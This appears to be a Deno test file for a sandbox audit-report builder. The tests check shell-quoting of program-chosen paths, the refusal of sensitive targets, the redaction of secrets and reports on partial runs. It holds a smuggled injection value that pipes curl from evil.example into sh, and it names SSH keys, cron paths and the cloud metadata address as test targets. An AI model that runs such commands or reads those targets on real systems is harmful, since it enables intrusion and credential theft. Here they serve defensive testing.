import assert from "node:assert/strict";
import { buildAuditReport, type ReportedRun } from "./report.ts";
import { parsePolicy } from "../harness/policy.ts";
import type {
  AuditEvent,
  PermissionEvent,
  RunResult,
} from "../harness/run_result.ts";
import type { EgressEvent } from "../injector/audit.ts";

const TIME = "2026-01-01T00:00:00.000Z";

// Every RunResult is a ReportedRun: a change to either that breaks
// buildAuditReport(result) fails this at compile time.
const _runResultIsReported: RunResult extends ReportedRun ? true : never = true;

function check(
  permission: PermissionEvent["permission"],
  value: string | null,
  decision: "allow" | "deny",
  reason = decision === "allow" ? "granted" : "not granted",
): PermissionEvent {
  return {
    time: TIME,
    source: "broker",
    kind: "permission",
    sandboxId: "s",
    runId: "r",
    permission,
    value,
    decision,
    reason,
    count: 1,
    firstTime: TIME,
    lastTime: TIME,
  };
}

function request(
  host: string,
  decision: EgressEvent["decision"],
  injected: string[] = [],
): EgressEvent {
  return {
    time: TIME,
    source: "injector",
    kind: "request",
    sandboxId: "s",
    runId: "r",
    method: "GET",
    scheme: "https",
    host,
    port: 443,
    path: "/v1/x",
    decision,
    rule: decision === "allow" ? host : "default-deny",
    ...(decision === "allow"
      ? {}
      : { reason: `host '${host}' is not allowed` }),
    injected,
    placeholders: [],
    status: decision === "allow" ? 200 : 403,
    bytesIn: 0,
    bytesOut: 0,
    durationMs: 1,
  };
}

function run(
  audit: AuditEvent[],
  end: Partial<ReportedRun> = {},
): ReportedRun {
  return { audit, exitCode: 0, reason: "exit", durationMs: 10, ...end };
}

const OPTIONS = {
  program: "agent.ts",
  learn: false,
  paths: [],
  relativeTo: "/work",
} as const;

Deno.test("buildAuditReport() shell-quotes a path the program chose in the deno command", () => {
  // A program that reads "x;curl evil|sh" must not turn the pasted
  // command into one that runs curl.
  const report = buildAuditReport(
    run([check("read", "/work/x;curl evil.example|sh", "allow")]),
    OPTIONS,
  );
  assert.deepEqual(report.minimalFlags, [
    "--allow-read=/work/x;curl evil.example|sh",
  ]);
  assert.equal(
    report.denoCommand,
    "deno run '--allow-read=/work/x;curl evil.example|sh' agent.ts",
  );
});

Deno.test("buildAuditReport() quotes a single quote inside a value", () => {
  const report = buildAuditReport(run([check("env", "A'B", "allow")]), OPTIONS);
  assert.equal(report.denoCommand, `deno run '--allow-env=A'\\''B' agent.ts`);
});

Deno.test("buildAuditReport() never proposes what an enforcing run refused: it lists it as refused", () => {
  const report = buildAuditReport(
    run([
      check("read", "/root/.ssh/id_rsa", "deny"),
      check("write", "/etc/cron.d/x", "deny"),
      check("net", "billing-debug.external.dev:443", "deny"),
      check("net", "169.254.169.254:80", "deny"),
      check("net", "billing.internal.example:443", "allow"),
      check("env", "BILLING_TOKEN", "deny"),
      request("billing.internal.example", "allow", ["authorization"]),
      request("billing-debug.external.dev", "deny"),
    ]),
    OPTIONS,
  );
  assert.deepEqual(report.minimalFlags, [
    "--allow-net=billing.internal.example:443",
  ]);
  const refused = report.refused.map((t) => `${t.kind} ${t.value}`);
  assert.deepEqual(refused.sort(), [
    "env BILLING_TOKEN",
    "net 169.254.169.254:80",
    "net billing-debug.external.dev:443",
    "read /root/.ssh/id_rsa",
    "write /etc/cron.d/x",
  ]);
  // Sensitive targets are named as such, beside the refusal.
  const why = (value: string) =>
    report.refused.find((t) => t.value === value)?.sensitive;
  assert.match(why("/root/.ssh/id_rsa")!, /SSH/);
  assert.match(why("/etc/cron.d/x")!, /cron/);
  assert.match(why("169.254.169.254:80")!, /metadata/);
  assert.equal(why("billing-debug.external.dev:443"), undefined);
  // Nothing refused is in the policy snippet either.
  const snippet = JSON.stringify(report.policySnippet);
  assert.ok(!snippet.includes("billing-debug"), snippet);
  assert.ok(!snippet.includes("169.254"), snippet);
  assert.match(report.flagNotes.join(" "), /5 targets are left out/);
});

Deno.test("buildAuditReport() in learn mode proposes spawns and withholds sensitive targets", () => {
  const learn = "learn mode: allowed and recorded";
  const report = buildAuditReport(
    run([
      check("write", "/p/out", "allow", learn),
      check("write", "/p/out/result.txt", "allow", learn),
      check("read", "/p/out/result.txt", "allow", learn),
      check("env", "SOME_UNSET_VAR", "allow", learn),
      check("env", "WEATHER_TOKEN", "allow", learn),
      check("env", null, "allow", learn),
      check("run", null, "deny", "learn mode records but never allows 'run'"),
      check("run", "sh", "deny", "learn mode records but never allows 'run'"),
      check("read", "/root/.ssh/id_rsa", "allow", learn),
      check("read", "/p/.env", "allow", learn),
    ]),
    {
      program: "prog.ts",
      learn: true,
      paths: [{ sandbox: "/p", host: "/p" }],
      relativeTo: "/p",
    },
  );
  assert.deepEqual(report.minimalFlags, [
    // ./out covers ./out/result.txt: listed once.
    "--allow-read=./out/result.txt,./.env",
    "--allow-write=./out",
    "--allow-env=SOME_UNSET_VAR,WEATHER_TOKEN",
    "--allow-run=sh",
  ]);
  assert.deepEqual(
    report.refused.map((t) => `${t.cause} ${t.kind} ${t.value}`).sort(),
    ["sensitive env (any)", "sensitive read /root/.ssh/id_rsa"],
  );
  assert.deepEqual(
    report.callouts.map((c) => `${c.kind} ${c.value}`).sort(),
    ["env WEATHER_TOKEN", "read ./.env", "run sh"],
  );
});

Deno.test("buildAuditReport() says plainly when the run failed or was cut short, and that it is partial", () => {
  const ok = buildAuditReport(run([]), OPTIONS);
  assert.equal(ok.run.completed, true);
  assert.match(ok.run.summary, /ran to its end/);
  const failed = buildAuditReport(run([], { exitCode: 1 }), OPTIONS);
  assert.equal(failed.run.completed, false);
  assert.match(failed.run.summary, /failed: it exited with code 1/);
  assert.match(failed.run.summary, /partial/);
  assert.match(failed.flagNotes[0]!, /did not complete/);
  const timeout = buildAuditReport(
    run([], { exitCode: 124, reason: "timeout" }),
    OPTIONS,
  );
  assert.match(timeout.run.summary, /cut short: the time limit/);
  assert.match(timeout.run.summary, /partial/);
});

Deno.test("buildAuditReport() keeps the program's output, bounded at both ends", () => {
  const long = "a".repeat(100) + "x".repeat(10_000) + "THE ERROR";
  const report = buildAuditReport(
    run([], { stdout: "hello\n", stderr: long }),
    { ...OPTIONS, outputChars: 400 },
  );
  assert.equal(report.output?.stdout.text, "hello\n");
  assert.equal(report.output?.stdout.omitted, 0);
  assert.equal(report.output?.stderr.length, long.length);
  assert.equal(report.output?.stderr.omitted, long.length - 400);
  assert.ok(report.output!.stderr.text.startsWith("a".repeat(100)));
  assert.ok(report.output!.stderr.text.endsWith("THE ERROR"));
  assert.ok(report.output!.stderr.text.length < 500);
});

Deno.test("buildAuditReport() records the injected header names per egress entry", () => {
  const report = buildAuditReport(
    run([
      request("api.example.com", "allow", ["authorization"]),
      request("api.example.com", "allow", ["x-api-key"]),
    ]),
    OPTIONS,
  );
  const entry = report.entries.find((e) => e.kind === "egress");
  assert.equal(entry?.count, 2);
  assert.deepEqual(entry?.injected, ["authorization", "x-api-key"]);
});

Deno.test("buildAuditReport() policy snippet keeps the injections in force, never a literal value", () => {
  const policy = parsePolicy({
    network: {
      allow: {
        "billing.internal.example": [{
          match: { methods: ["GET"] },
          transform: [{
            headers: { authorization: "Bearer ${env:BILLING_TOKEN}" },
          }],
        }],
        "*.example.com": [{
          transform: [{ headers: { "x-api-key": "sk-live-literal-123" } }],
        }],
        "unused.example.org": [],
      },
    },
  });
  const report = buildAuditReport(
    run([
      check("net", "billing.internal.example:443", "allow"),
      check("net", "api.example.com:443", "allow"),
    ]),
    { ...OPTIONS, policy },
  );
  const allow = (report.policySnippet.network as {
    allow: Record<string, unknown[]>;
  }).allow;
  assert.deepEqual(Object.keys(allow).sort(), [
    "api.example.com",
    "billing.internal.example",
  ]);
  assert.deepEqual(allow["billing.internal.example"], [{
    match: { methods: ["GET"] },
    transform: [{ headers: { authorization: "Bearer ${env:BILLING_TOKEN}" } }],
    allowInsecure: false,
  }]);
  const json = JSON.stringify(report);
  assert.ok(!json.includes("sk-live-literal-123"), "a literal never appears");
  assert.match(JSON.stringify(allow["api.example.com"]), /<redacted>/);
  assert.match(report.flagNotes.join(" "), /x-api-key.*redacted/);
  // The snippet is a valid policy.
  parsePolicy(
    JSON.parse(
      JSON.stringify(report.policySnippet).replaceAll("<redacted>", "x"),
    ),
  );
});
